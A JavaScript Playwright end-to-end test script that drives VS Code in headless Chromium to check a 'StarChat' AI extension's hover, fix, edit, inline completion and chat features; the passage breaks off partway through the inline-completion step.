// Drives code-server (real VS Code in headless Chromium) through the StarChat extension with the
// real server and the trained test model. Run by tests/editors/test_vscode.py, which starts
// code-server and passes everything in a JSON file (argv[2]); the results go to argv[3].
//
// Steps: the status bar shows the model ready; hover over `area`; select average() → right-click
// → Ask StarChat → Fix changes the text; inline completion: ghost text after "sum(" as the user
// types and under `def area` when asked for, Tab accepts, Escape dismisses, quiet, off with
// starchat.completionEnabled false; Ask StarChat → Ask a Question… answers in the chat view;
// the chat goes on about a file after it is closed, and drops a closed untitled document with a
// note (all in Restricted Mode: the workspace's settings.json sets a hostile server command that
// must not run); chat with streaming and a follow-up; a file attached to the chat (Add File to
// Chat: the palette's list, the chip and its ×, the Explorer's menu); Stop while a long answer streams; model output with HTML
// stays text and its code goes into the file (not the Output panel); the view after Reload
// Webviews; a project's own User/settings.json reaches the server; Fix on a JSON file with a problem
// sends the editor's diagnostics; a trace setting change keeps the server; a .env and the editor's settings files never reach the server (and the .env has no Ask
// StarChat menu); Restart Server twice leaves one server; the server killed mid-answer; the chat
// after Reload Window (an answer that was streaming comes back interrupted).
import { chromium } from "playwright-core";
import { spawn } from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";

const config = JSON.parse(fs.readFileSync(process.argv[2], "utf8"));
const resultsPath = process.argv[3];
const sc = config.scenarios;
const results = { steps: {}, console: [] };
const save = () => fs.writeFileSync(resultsPath, JSON.stringify(results, null, 2));
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const log = (...args) => console.log(`[${((Date.now() - t0) / 1000).toFixed(1)}s]`, ...args);
const t0 = Date.now();

const browser = await chromium.launch({
  executablePath: config.chromium,
  headless: true,
  args: [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
    "--disable-features=Translate,MediaRouter",
  ],
});
const context = await browser.newContext({ viewport: { width: 1400, height: 900 }, deviceScaleFactor: 1 });
const page = await context.newPage();
page.setDefaultTimeout(config.stepTimeoutMs ?? 20000);
page.on("console", (m) => {
  if (m.type() === "error") results.console.push(m.text().slice(0, 500));
});

let shot = 0;
async function screenshot(name) {
  shot += 1;
  const file = path.join(config.screenshots, `vscode-${String(shot).padStart(2, "0")}-${name}.png`);
  await page.screenshot({ path: file });
  log("screenshot", file);
  return file;
}

async function step(name, body, { needs = [] } = {}) {
  const missing = needs.filter((n) => !results.steps[n]?.ok);
  if (missing.length) {
    results.steps[name] = { ok: false, seconds: 0, error: `skipped: ${missing.join(", ")} failed` };
    save();
    return false;
  }
  log(`step ${name}`);
  await page.keyboard.press("Escape").catch(() => {});
  const started = Date.now();
  try {
    const detail = (await body()) ?? {};
    results.steps[name] = { ok: true, seconds: (Date.now() - started) / 1000, ...detail };
  } catch (error) {
    results.steps[name] = { ok: false, seconds: (Date.now() - started) / 1000, error: String(error?.stack ?? error) };
    log(`step ${name} FAILED: ${error}`);
    try {
      await screenshot(`${name}-failed`);
    } catch {}
  }
  save();
  return results.steps[name].ok;
}

/** Waits until fn() returns a truthy value; returns it. */
async function until(what, fn, timeoutMs = 60000, intervalMs = 100) {
  const deadline = Date.now() + timeoutMs;
  let last;
  while (Date.now() < deadline) {
    try {
      last = await fn();
      if (last) return last;
    } catch (error) {
      last = error;
    }
    await sleep(intervalMs);
  }
  throw new Error(`timed out waiting for ${what} (last: ${String(last).slice(0, 300)})`);
}

const editor = () => page.locator(".editor-instance .monaco-editor").first();

// ---- the language server's processes (children of code-server's extension host) -------------
function parentOf(pid) {
  try {
    const stat = fs.readFileSync(`/proc/${pid}/stat`, "utf8");
    return Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
  } catch {
    return 0;
  }
}
/** Process ids of the running starchat-lsp servers that this code-server started. */
function serverPids() {
  const pids = [];
  for (const name of fs.readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    let cmdline;
    try {
      cmdline = fs.readFileSync(`/proc/${name}/cmdline`, "utf8").split("\0");
      if (fs.readFileSync(`/proc/${name}/stat`, "utf8").split(") ")[1]?.startsWith("Z")) continue; // a zombie
    } catch {
      continue;
    }
    if (!(cmdline.includes("lsp_server") && cmdline.includes("-m"))) continue;
    for (let pid = Number(name), hops = 0; pid > 1 && hops < 12; pid = parentOf(pid), hops++) {
      if (pid === config.codeServerPid) {
        pids.push(Number(name));
        break;
      }
    }
  }
  return pids.sort((a, b) => a - b);
}

/** The client's log files (the StarChat output channel, as written to disk: one per window). */
function clientLogFiles() {
  const found = [];
  const walk = (dir) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else if (entry.name === "StarChat.log") found.push(full);
    }
  };
  try {
    walk(path.join(config.userData, "logs"));
  } catch {}
  return found;
}
/** The client's log. */
function clientLog(files = clientLogFiles()) {
  return files.map((f) => fs.readFileSync(f, "utf8")).join("\n");
}
/** Every `method` request in a log with the verbose trace: its id and params. */
function requests(log, method) {
  return log.split(`Sending request '${method} - (`).slice(1).map((part) => {
    const lines = part.slice(part.indexOf("Params: ") + "Params: ".length).split("\n");
    const end = lines.findIndex((line, i) => i > 0 && /^\d{4}-\d\d-\d\d \d/.test(line));
    return { id: part.slice(0, part.indexOf(")")), params: JSON.parse(lines.slice(0, end < 0 ? undefined : end).join("\n")) };
  });
}
const requestParams = (log, method) => requests(log, method).map((r) => r.params);
/** The responses to `method` in a log with the verbose trace: id → result (null for none). */
function responses(log, method) {
  const found = new Map();
  for (const part of log.split(`Received response '${method} - (`).slice(1)) {
    const id = part.slice(0, part.indexOf(")"));
    const [header, ...lines] = part.split("\n");
    if (header.includes("Request failed")) {
      found.set(id, { error: header.slice(header.indexOf("Request failed")) });
      continue;
    }
    if (!lines[0]?.includes("Result: ")) {
      found.set(id, null); // "No result returned."
      continue;
    }
    lines[0] = lines[0].slice(lines[0].indexOf("Result: ") + "Result: ".length);
    const end = lines.findIndex((line, i) => i > 0 && /^\d{4}-\d\d-\d\d \d/.test(line));
    found.set(id, JSON.parse(lines.slice(0, end < 0 ? undefined : end).join("\n")));
  }
  return found;
}
const count = (text, part) => text.split(part).length - 1;

async function waitReady(timeoutMs = 120000) {
  return until("the model to be ready", async () => {
    const t = await statusItem().innerText();
    return !/loading|starting|generating|error|stopped/.test(t) && t;
  }, timeoutMs, 200);
}

/** An editor's text as the user sees it (all lines of calc.py fit on screen): the file's, or a
 * notebook cell's. */
async function editorText(target = editor()) {
  return target.evaluate((root) => {
    const lines = [...root.querySelectorAll(".view-lines .view-line")].map((line) => ({
      top: parseFloat(line.style.top),
      text: line.textContent.replace(/\u00a0/g, " "),
    }));
    lines.sort((a, b) => a.top - b.top);
    return lines.map((l) => l.text).join("\n");
  });
}

/** The inline completion shown in an editor (ghost text): the part on the cursor's line and the
 * lines below it, as the user sees them; and the editor's lines without it. */
async function ghostText(target = editor()) {
  return target.evaluate((root) => {
    const text = (node) => node.textContent.replace(/\u00a0/g, " ");
    const isGhost = (node) => [...node.classList].some((c) => c.startsWith("ghost-text"));
    const byTop = (nodes) => [...nodes].sort((a, b) => parseFloat(a.style.top || 0) - parseFloat(b.style.top || 0));
    // on the cursor's line: injected text (spans .ghost-text-decoration…) in the view line
    const inline = [...root.querySelectorAll(".view-lines .view-line [class*='ghost-text']")].map(text).join("");
    // the lines below it: lines of spans .ghost-text in a view zone of the editor
    const spans = [...root.querySelectorAll(".view-zones [class*='ghost-text']")];
    const below = [...new Set(spans.map((span) => span.closest(".view-line") ?? span.parentElement))].map(text);
    const lines = byTop(root.querySelectorAll(".view-lines .view-line")).map((line) => {
      const clone = line.cloneNode(true);
      clone.querySelectorAll("[class*='ghost-text']").forEach((node) => isGhost(node) && node.remove());
      return text(clone);
    });
    return { inline, below, text: lines.join("\n"), shown: inline.length > 0 || below.length > 0 };
  });
}

/** Records, from now on, every text of the StarChat status bar item and every notification shown. */
async function watchQuiet() {
  await page.evaluate(() => {
    const seen = (window.__quiet = { status: [], toasts: [] });
    const record = () => {
      for (const item of document.querySelectorAll(".statusbar-item")) {
        const text = item.textContent.trim();
        if (text.includes("StarChat") && seen.status.at(-1) !== text) seen.status.push(text);
      }
      for (const toast of document.querySelectorAll(".notification-toast")) {
        const text = toast.textContent.trim();
        if (!seen.toasts.includes(text)) seen.toasts.push(text);
      }
    };
    record();
    window.__quietObserver?.disconnect();
    window.__quietObserver = new MutationObserver(record);
    window.__quietObserver.observe(document.body, { childList: true, subtree: true, characterData: true });
  });
}
async function quietSeen() {
  return page.evaluate(() => {
    window.__quietObserver?.disconnect();
    return window.__quiet;
  });
}

/** Opens the command palette on `title` (its row shown: Enter runs it). */
async function findCommand(title, timeout) {
  await page.keyboard.press("Control+Shift+P");
  await page.locator(".quick-input-widget input.input").fill(`>${title}`, { timeout });
  await page.locator(".quick-input-list .monaco-list-row", { hasText: title }).first().waitFor({ timeout });
}
async function runCommand(title) {
  await findCommand(title);
  await page.keyboard.press("Enter");
}
/** Ctrl+. (the code actions menu) over the selection: the row titled `title`, once shown. The
 * key is pressed again (after Escape and reselect()) if the menu has not opened: on a loaded
 * machine a key pressed as the editor takes the focus can be lost. */
async function codeActionRow(title, reselect) {
  const row = page.locator(".action-widget .monaco-list-row", { hasText: title }).first();
  await retry(3, async () => {
    await page.keyboard.press("Control+.");
    await row.waitFor({ timeout: 8000 });
  }, async () => {
    await page.keyboard.press("Escape");
    await reselect();
  });
  await sleep(300);
  return row;
}
/** Clicks the StarChat status bar item and picks the row of its menu that says `label`; returns
 * the menu's title and rows as shown (codicons are not text). */
async function pickFromStatusMenu(label) {
  await page.locator(".statusbar-item", { hasText: "StarChat", hasNotText: "inline completion" }).first().click();
  const rows = page.locator(".quick-input-list .monaco-list-row");
  await rows.first().waitFor({ timeout: 10000 });
  await sleep(300);
  const shown = {
    title: (await page.locator(".quick-input-widget .quick-input-title").innerText().catch(() => "")).trim(),
    rows: await rows.evaluateAll((all) => all.map((row) => [".label-name", ".label-description"]
      .map((part) => row.querySelector(part)?.textContent?.trim()).filter(Boolean).join(" — "))),
  };
  await rows.filter({ hasText: label }).first().click();
  await page.locator(".quick-input-widget").waitFor({ state: "hidden", timeout: 5000 });
  return shown;
}
/** The titles of the commands the command palette offers for `query` (then closes it). */
async function paletteTitles(query) {
  await page.keyboard.press("Control+Shift+P");
  await page.locator(".quick-input-widget input.input").fill(`>${query}`);
  await page.locator(".quick-input-list .monaco-list-row").first().waitFor();
  await sleep(300);
  const rows = await page.locator(".quick-input-list .monaco-list-row").allInnerTexts();
  await page.keyboard.press("Escape");
  await page.locator(".quick-input-widget").waitFor({ state: "hidden", timeout: 5000 });
  return rows.map((row) => row.split("\n")[0].trim()).filter(Boolean);
}
/** body() until it does not throw, at most `attempts` times; between() after each failure. */
async function retry(attempts, body, between = async () => {}) {
  for (let attempt = 1; ; attempt++) {
    try {
      return await body();
    } catch (error) {
      if (attempt >= attempts) throw error;
      await between();
    }
  }
}
/** calc.py again (from the Explorer), for the next steps. */
async function openCalc() {
  await page.locator(".explorer-folders-view .monaco-list-row", { hasText: "calc.py" }).first().click();
  await editor().locator(".view-line", { hasText: "def average" }).waitFor();
}

/** Selects whole lines first..last (1-based): from (first, 1) to (last + 1, 1). */
async function selectLines(first, last) {
  await editor().locator(".view-lines").click();
  await page.keyboard.press("Control+Home");
  for (let i = 1; i < first; i++) await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Home");
  await page.keyboard.press("Home"); // twice: the first goes to the first non-blank character
  for (let i = first; i <= last; i++) await page.keyboard.press("Shift+ArrowDown");
}

async function cursorStatus() {
  return page.locator(".statusbar-item", { hasText: /Ln \d+, Col \d+/ }).first().innerText();
}

const contextMenu = () => page.locator(".context-view .monaco-menu").first();
const escapeRegExp = (text) => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
/** A menu entry by its label (the label element alone: a submenu's entry holds its items too). */
const menuItem = (label) => page.locator(".context-view .monaco-menu .action-label", { hasText: new RegExp(`^\\s*${escapeRegExp(label)}`) }).first();

/** Right-click on the selected line `lineText` (or `linesAbove` lines above it), then open Ask
 * StarChat ▸ and click `item`; the labels the open menus showed. */
async function contextMenuAction(lineText, item, shotName, linesAbove = 0) {
  const line = editor().locator(".view-line", { hasText: lineText }).first();
  const box = await line.boundingBox();
  await page.mouse.click(box.x + 40, box.y + box.height * (0.5 - linesAbove), { button: "right" });
  await contextMenu().waitFor();
  const submenu = menuItem("Ask StarChat");
  await submenu.hover();
  await menuItem(item).waitFor();
  await sleep(300); // let the submenu finish opening for the screenshot
  if (shotName) await screenshot(shotName);
  const labels = (await page.locator(".context-view .monaco-menu .action-label").allInnerTexts()).map((label) => label.trim()).filter(Boolean);
  // VS Code's menus act on mouse up after a mouse down on the same item: hover, then press.
  const target = menuItem(item);
  await target.hover();
  await sleep(150);
  await page.mouse.down();
  await sleep(60);
  await page.mouse.up();
  await contextMenu().waitFor({ state: "hidden", timeout: 5000 });
  return labels;
}

/** Right-click on `name` in the Explorer: the labels of its context menu; then clicks `item`
 * (if given) or closes the menu. */
async function explorerMenu(name, item) {
  await page.locator(".explorer-folders-view .monaco-list-row", { hasText: name }).first().click({ button: "right" });
  await contextMenu().waitFor();
  await menuItem("Copy Path").waitFor();
  await sleep(300);
  const labels = (await page.locator(".context-view .monaco-menu .action-label").allInnerTexts()).map((label) => label.trim()).filter(Boolean);
  if (item) {
    // VS Code's menus act on mouse up after a mouse down on the same item: hover, then press.
    await menuItem(item).hover();
    await sleep(150);
    await page.mouse.down();
    await sleep(60);
    await page.mouse.up();
  } else {
    await page.keyboard.press("Escape");
  }
  await contextMenu().waitFor({ state: "hidden", timeout: 5000 });
  return labels;
}

/** The names on the chat's chips of attached files. */
async function referenceChips(frame) {
  return frame.evaluate(() => [...document.querySelectorAll("#references .reference .reference-label")].map((chip) => chip.textContent));
}

/** Right-click on the line `lineText`: the labels of the context menu's entries (then closes it). */
async function contextMenuLabels(lineText) {
  const line = editor().locator(".view-line", { hasText: lineText }).first();
  const box = await line.boundingBox();
  await page.mouse.click(box.x + 40, box.y + box.height / 2, { button: "right" });
  await contextMenu().waitFor();
  await menuItem("Copy").waitFor();
  await sleep(300);
  const labels = await page.locator(".context-view .monaco-menu .action-label").allInnerTexts();
  await page.keyboard.press("Escape");
  await contextMenu().waitFor({ state: "hidden", timeout: 5000 });
  return labels.map((label) => label.trim()).filter(Boolean);
}

/** Opens a file by its absolute path (Go to File), waits for its line `lineText`. */
async function openPath(file, lineText) {
  await page.keyboard.press("Control+Shift+P");
  const input = page.locator(".quick-input-widget input.input");
  await input.waitFor({ state: "visible" });
  await input.fill(file); // no ">": Go to File, which takes an absolute path
  await page.locator(".quick-input-list .monaco-list-row").first().waitFor();
  await sleep(300);
  await page.keyboard.press("Enter");
  await editor().locator(".view-line", { hasText: lineText }).first().waitFor();
}

const statusItem = () => page.locator(".statusbar-item", { hasText: "StarChat" }).first();

/** Developer: Reload Window, as a user would: a new page, extension host and server. The command
 * is found in the palette first; `when()` (if given) runs just before it runs. */
async function reloadWindow(when) {
  await page.evaluate(() => (window.__beforeReload = true));
  // The palette is opened from the editor: opened while the chat's webview has the focus (right
  // after a message was sent there), it can close again at once, and the answer meant to be
  // streaming during the reload ends meanwhile.
  await retry(3, async () => {
    await editor().locator(".view-lines").click({ timeout: 5000 });
    await findCommand("Developer: Reload Window", 5000);
  }, () => page.keyboard.press("Escape"));
  if (when) await when();
  await page.keyboard.press("Enter");
  await until("the window to reload", () => page.evaluate(() => !window.__beforeReload).catch(() => false), 60000, 200);
  await page.locator(".monaco-workbench").waitFor({ timeout: 120000 });
  cachedChatFrame = undefined;
  await until("the StarChat status bar item", async () => (await statusItem().count()) > 0, 60000);
}

// The chat webview: an iframe (the webview host) holding the page's iframe.
// (A notebook has webviews too: the chat's is the extension's.)
const chatFrame = () => page.frameLocator('iframe.webview.ready[src*="extensionId=starchat-lsp."]').frameLocator("iframe#active-frame");
const lastAnswer = () => chatFrame().locator(".turn.assistant").last();

let cachedChatFrame;
/** The chat page's frame, for evaluate(). */
async function chatPageFrame() {
  if (cachedChatFrame && !cachedChatFrame.isDetached()) return cachedChatFrame;
  cachedChatFrame = await until("the chat webview", async () => {
    for (const frame of page.frames()) {
      try {
        if (await frame.evaluate(() => !!document.getElementById("transcript") && !!document.getElementById("input"))) return frame;
      } catch {}
    }
    return undefined;
  });
  return cachedChatFrame;
}

async function chatTurns() {
  const frame = await chatPageFrame();
  return frame.evaluate(() =>
    [...document.querySelectorAll(".turn")].map((t) => ({
      id: Number(t.dataset.id),
      role: t.classList.contains("user") ? "user" : t.classList.contains("notice") ? "notice" : "assistant",
      error: t.querySelector(".note.error")?.textContent ?? null,
      seen: t.querySelector(".note.seen")?.textContent ?? null,
      status: t.dataset.status,
      updates: Number(t.dataset.updates ?? 0),
      text: (t.querySelector(".content")?.textContent ?? "").trim(),
    })),
  );
}

/** Records every distinct text of the last assistant turn, as the user would see it change. */
async function watchAnswers(frame) {
  await frame.evaluate(() => {
    window.__seen = [];
    const record = () => {
      const turns = document.querySelectorAll(".turn.assistant");
      const last = turns[turns.length - 1];
      const text = (last?.querySelector(".content")?.textContent ?? "").trim();
      const seen = window.__seen;
      if (seen[seen.length - 1] !== text) seen.push(text);
    };
    new MutationObserver(record).observe(document.getElementById("transcript"), { childList: true, subtree: true, characterData: true });
  });
}

/** Feeds the chat page a conversation as the extension would send it (its "state" message). */
async function feedPage(frame, turns, context = null) {
  await frame.evaluate(([turns, context]) => {
    window.dispatchEvent(new MessageEvent("message", { data: { type: "state", turns, generating: false, context } }));
  }, [turns, context]);
}

async function sendChat(frame, text) {
  await frame.evaluate(() => (window.__seen = []));
  const input = chatFrame().locator("#input");
  await input.click();
  await input.fill(text);
  await input.press("Enter");
}

/** A starchat/chat request as the tests compare it: its messages, document (file name), range
 * and whether it streams. */
const chatSent = (p) => ({
  messages: p.messages, uri: p.textDocument?.uri?.replace(/^.*\//, "") ?? null, range: p.range ?? null,
  streamed: typeof p.partialResultToken === "string",
});

const answerDone = async (frame, turns) => {
  const list = await chatTurns();
  const last = list[list.length - 1];
  return list.length >= turns && last?.role === "assistant" && last.status !== "streaming" ? last : undefined;
};

try {
  await step("open", async () => {
    await page.goto(config.url);
    await page.locator(".monaco-workbench").waitFor({ timeout: 120000 });
    await page.locator(".statusbar").waitFor();
    // Open calc.py from the Explorer, as a user would.
    const row = page.locator(".explorer-folders-view .monaco-list-row", { hasText: "calc.py" }).first();
    await row.waitFor({ timeout: 60000 });
    await row.click();
    await editor().locator(".view-line", { hasText: "def average" }).waitFor();
    const text = await until("the StarChat status bar item", async () => (await statusItem().count()) && statusItem().innerText(), 60000);
    log("status:", text);
    await screenshot("loading");
    const ready = await until("the model to be ready", async () => {
      const t = await statusItem().innerText();
      if (/error|stopped/.test(t)) throw new Error(`status bar: ${t}`);
      return !/loading|starting|generating/.test(t) && t;
    }, 120000, 200);
    await screenshot("ready");
    // The workspace is not trusted (its .vscode/settings.json names another server command and
    // environment): the server runs with the user's.
    const restricted = await page.locator(".statusbar-item", { hasText: "Restricted Mode" }).count();
    const serverEnv = serverPids().map((pid) => {
      try {
        return fs.readFileSync(`/proc/${pid}/environ`, "utf8").split("\0").map((v) => v.split("=")[0]).filter((n) => n.startsWith("STARCHAT_E2E"));
      } catch {
        return [];
      }
    });
    return { statusFirst: text, statusReady: ready, text: await editorText(), restricted, serverEnv };
  });

  await step("hover", async () => {
    const word = editor().locator(".view-line", { hasText: "def area" }).locator("span span", { hasText: /^area$/ }).first();
    await word.hover();
    const hover = page.locator(".monaco-hover-content", { hasText: sc.hoverText });
    await hover.first().waitFor({ timeout: 60000 });
    await sleep(300);
    await screenshot("hover");
    const text = await page.locator(".monaco-hover-content").first().innerText();
    await page.mouse.move(5, 5);
    await page.keyboard.press("Escape");
    return { hover: text };
  }, { needs: ["open"] });

  await step("fix", async () => {
    await selectLines(4, 5);
    const selection = await page.locator(".statusbar-item", { hasText: /selected/ }).first().innerText().catch(() => "");
    await contextMenuAction("def average", "Fix", "menu-fix");
    // The rendered lines joined with newlines: the file's text (its last line is the empty one).
    let seen;
    const text = await until("the fixed code in the editor", async () => {
      seen = await editorText();
      return seen === sc.fixedCalc && seen;
    }, 60000).catch((error) => {
      throw new Error(`${error.message}; the editor shows ${JSON.stringify(seen)}`);
    });
    await sleep(200);
    await screenshot("fixed");
    await page.keyboard.press("Control+S"); // the test also checks the file on disk
    const disk = await until("calc.py saved", async () => {
      const t = fs.readFileSync(path.join(config.workspace, "calc.py"), "utf8");
      return t === sc.fixedCalc && t;
    }, 10000);
    return { selection, text, disk };
  }, { needs: ["open"] });

  await step("undo", async () => {
    await editor().locator(".view-lines").click();
    await page.keyboard.press("Control+Z");
    await until("the original code again", async () => (await editorText()) === sc.calc, 10000);
    await page.keyboard.press("Control+S");
    await sleep(300);
  }, { needs: ["fix"] });

  // Edit…: an instruction typed in an input box; the server replaces the selection with the
  // answer's code (workspace/applyEdit); Ctrl+Z takes it back. From the right-click menu, then
  // from Ctrl+. (the server's "StarChat: Edit…" code action runs the client command).
  await step("edit", async () => {
    /** Edit… opened by `open`, `instruction` typed; `expected` in the editor, then undone. */
    const edit = async (open, instruction = sc.editInstruction, expected = sc.fixedCalc) => {
      await open();
      const input = page.locator(".quick-input-widget input.input");
      await input.waitFor({ state: "visible" });
      const prompt = (await page.locator(".quick-input-widget .quick-input-message").innerText().catch(() => "")).trim();
      await input.fill(instruction);
      await page.keyboard.press("Enter");
      let seen;
      const text = await until("the edited code in the editor", async () => {
        seen = await editorText();
        return seen === expected && seen;
      }, 60000).catch((error) => {
        throw new Error(`${error.message}; the editor shows ${JSON.stringify(seen)}`);
      });
      await editor().locator(".view-lines").click();
      await page.keyboard.press("Control+Z");
      const undone = await until("the original code again", async () => {
        seen = await editorText();
        return seen === sc.calc && seen;
      }, 10000).catch(() => seen);
      await page.keyboard.press("Control+S");
      await sleep(300);
      return { prompt, text, undone };
    };
    const menu = await edit(async () => {
      await selectLines(4, 5);
      await contextMenuAction("def average", "Edit…", "menu-edit");
    });
    const codeAction = await edit(async () => {
      await selectLines(4, 5);
      await (await codeActionRow("StarChat: Edit…", () => selectLines(4, 5))).click();
    });
    const key = await edit(async () => {
      await selectLines(4, 5);
      await page.keyboard.press("Control+I"); // the extension's default key for Edit…
    });
    // Ctrl+I with no selection, the cursor on the empty line above `def area`: the code asked
    // for is written on that line
    const cursor = await edit(async () => {
      await editor().locator(".view-lines").click();
      await page.mouse.move(5, 5); // (a hover would ask the model)
      await page.keyboard.press("Control+Home");
      for (let i = 0; i < sc.emptyLine; i++) await page.keyboard.press("ArrowDown");
      await until("the cursor on the empty line", async () => (await cursorStatus()).includes(`Ln ${sc.emptyLine + 1}, Col 1`), 5000);
      await page.keyboard.press("Control+I");
    }, sc.writeInstruction, sc.writtenCalc);
    // the same from the right-click menu, no selection: Ask StarChat ▸ offers what needs none
    let offered;
    const menuCursor = await edit(async () => {
      await editor().locator(".view-lines").click();
      await page.mouse.move(5, 5);
      await page.keyboard.press("Control+Home"); // no selection
      offered = await contextMenuAction("def area", "Edit…", "menu-edit-cursor", 1);
      await until("the cursor on the empty line", async () => (await cursorStatus()).includes(`Ln ${sc.emptyLine + 1},`), 5000);
    }, sc.writeInstruction, sc.writtenCalc);
    return { menu, codeAction, key, cursor, menuCursor: { ...menuCursor, offered } };
  }, { needs: ["undo"] });

  // Inline completion (textDocument/inlineCompletion, asked by the language client): typing "("
  // after "sum" (VS Code closes the bracket) shows the model's proposal as ghost text, and Tab
  // accepts it; Trigger Inline Suggestion (a key) asks for one on the empty line under
  // `def area(radius):`, Tab accepts its two lines, Escape dismisses it. None of it shows as
  // generating in the status bar nor as a notification. With starchat.completionEnabled false,
  // nothing is proposed.
  await step("inline", async () => {
    const sumFile = path.join(config.workspace, "fill_sum.py");
    const areaFile = path.join(config.workspace, "fill_area.py");
    const offFile = path.join(config.workspace, "fill_off.py");
    const toggleFile = path.join(config.workspace, "fill_toggle.py");
    const notebookFile = path.join(config.workspace, "fill_cell.ipynb");
    fs.writeFileSync(sumFile, sc.fillSumTyped);
    fs.writeFileSync(offFile, sc.fillSumTyped);
    fs.writeFileSync(areaFile, sc.fillAreaText);
    const logStart = clientLog().length;
    const stepLog = () => clientLog().slice(logStart);
    const sent = () => requests(stepLog(), "textDocument/inlineCompletion");
    /** The cursor to (line, character), 0-based, from the keyboard; the mouse out of the way (a
     * hover would ask the model and show as generating). */
    const moveTo = async (line, character) => {
      await editor().locator(".view-lines").click();
      await page.mouse.move(5, 5);
      await page.keyboard.press("Control+Home"); // column 1, which ArrowDown keeps
      for (let i = 0; i < line; i++) await page.keyboard.press("ArrowDown");
      for (let i = 0; i < character; i++) await page.keyboard.press("ArrowRight");
      const expected = `Ln ${line + 1}, Col ${character + 1}`;
      await until(`the cursor at ${expected}`, async () => (await cursorStatus()).includes(expected), 5000);
    };
    /** The inline completion requests sent after the first `before`, once at least one was sent
     * and all are answered: their trigger kinds (1 asked for, 2 as the user types) and answers. */
    const answered = async (before, what) => {
      const done = await until(`${what}: requests answered`, async () => {
        const asked = sent().slice(before);
        const all = responses(stepLog(), "textDocument/inlineCompletion");
        return asked.length > 0 && asked.every((r) => all.has(r.id)) && asked.map((r) => ({ triggerKind: r.params.context?.triggerKind, result: all.get(r.id) }));
      }, 60000, 100);
      return done;
    };
    const shownGhost = (what, expected) =>
      until(what, async () => {
        const ghost = await ghostText();
        return ghost.shown && (expected === undefined || ghost.inline + ghost.below.map((l) => `\n${l}`).join("") === expected) && ghost;
      }, 60000, 100).catch(async (error) => {
        throw new Error(`${error.message}; ghost text: ${JSON.stringify(await ghostText())}; editor: ${await editor().evaluate((root) => [...root.querySelectorAll("[class*='ghost']")].map((n) => `${n.className}: ${n.textContent}`).join(" | "))}`);
      });
    /** Trigger Inline Suggestion where the cursor is: the ghost text shown (the proposal
     * `expected`) and the requests it sent, answered. */
    const trigger = async (what, expected) => {
      const before = sent().length;
      await page.keyboard.press(config.triggerInlineKey);
      const ghost = await shownGhost(`the ghost text ${what}`, expected);
      return { ghost, answer: await answered(before, `the completion ${what}`) };
    };
    /** Tab: the editor's text once the ghost text is gone and the text is no longer `before`. */
    const acceptWithTab = async (what, before) => {
      await page.keyboard.press("Tab");
      return until(what, async () => {
        const ghost = await ghostText();
        return !ghost.shown && ghost.text !== before && ghost.text;
      }, 10000);
    };
    /** Saves the active editor's file (Ctrl+S): its text on disk once the tab shows it saved. */
    const savedText = async (file) => {
      await page.keyboard.press("Control+S");
      const tab = page.locator(".tabs-container .tab.active", { hasText: path.basename(file) }).first();
      await until(`${path.basename(file)} saved`, async () => (await tab.count()) > 0 && !(await tab.evaluate((t) => t.classList.contains("dirty"))), 10000);
      return fs.readFileSync(file, "utf8");
    };
    /** Closes the step's files (unsaved changes dropped), back to calc.py: also after a failure. */
    const closeFiles = async () => {
      await page.keyboard.press("Escape");
      for (const name of ["fill_cell.ipynb", "fill_toggle.py", "fill_off.py", "fill_area.py", "fill_sum.py"]) {
        const tab = page.locator(".tabs-container .tab", { hasText: name }).first();
        if (!(await tab.count())) continue;
        await tab.click();
        await page.keyboard.press("Control+W");
        const dontSave = page.locator(".monaco-dialog-box button", { hasText: "Don't Save" });
        await until(`${name} closed`, async () => {
          if (await dontSave.isVisible().catch(() => false)) await dontSave.click().catch(() => undefined);
          return (await tab.count()) === 0;
        }, 15000, 200);
      }
      await openCalc();
    };
    try {
      await watchQuiet();

      // 1. As the user types: "(" after "sum".
      await openPath(sumFile, "def average");
      await moveTo(sc.fillSumCursor.line, sc.fillSumCursor.character - 1); // after "sum"
      await sleep(500);
      const typedBefore = sent().length;
      await page.keyboard.type("(");
      const closed = await until("the bracket closed", async () => (await ghostText()).text.split("\n")[sc.fillSumCursor.line] === "    return sum()", 5000).catch(async () => (await ghostText()).text.split("\n")[sc.fillSumCursor.line]);
      const typedGhost = await shownGhost("the ghost text after sum(", sc.fillSum);
      const typedAnswer = await answered(typedBefore, "the completion as the user types");
      await sleep(300);
      await screenshot("inline-typed");
      await page.keyboard.press("Tab");
      const typedAccepted = await until("the proposal accepted", async () => {
        const ghost = await ghostText();
        return !ghost.shown && ghost.text.split("\n")[sc.fillSumCursor.line] === sc.fillSumAcceptedLine && ghost;
      }, 10000).catch(async (error) => {
        throw new Error(`${error.message}: ${JSON.stringify(await ghostText())}`);
      });
      const typedDisk = await savedText(sumFile);
      const typedCursor = await cursorStatus();

      // 2. Asked for: Trigger Inline Suggestion (a key bound to it) on the empty line under
      // def area(radius):
      await openPath(areaFile, "def area");
      await moveTo(sc.fillAreaCursor.line, sc.fillAreaCursor.character);
      await sleep(500);
      const { ghost: invokedGhost, answer: invokedAnswer } = await trigger("asked for under def area", sc.fillArea);
      await sleep(300);
      await screenshot("inline-invoked");
      const invokedAccepted = await acceptWithTab("the proposal accepted", sc.fillAreaText);
      const invokedDisk = await savedText(areaFile);
      // Escape: asked for again at the same place, dismissed; the text stays as it was.
      await page.keyboard.press("Control+Z");
      await until("the line empty again", async () => (await ghostText()).text.split("\n")[sc.fillAreaCursor.line].trim() === "", 10000);
      await moveTo(sc.fillAreaCursor.line, sc.fillAreaCursor.character);
      const { ghost: againGhost, answer: againAnswer } = await trigger("asked for again", sc.fillArea);
      await page.keyboard.press("Escape");
      await until("the ghost text dismissed", async () => !(await ghostText()).shown, 10000);
      await sleep(1000);
      const dismissed = await ghostText();
      const dismissedDisk = await savedText(areaFile);
      // Ctrl+Right (Accept Next Word of Inline Suggestion): asked for again, its first word goes
      // in and the rest stays shown (VS Code may ask again: the server answers the rest); Tab
      // then inserts the rest.
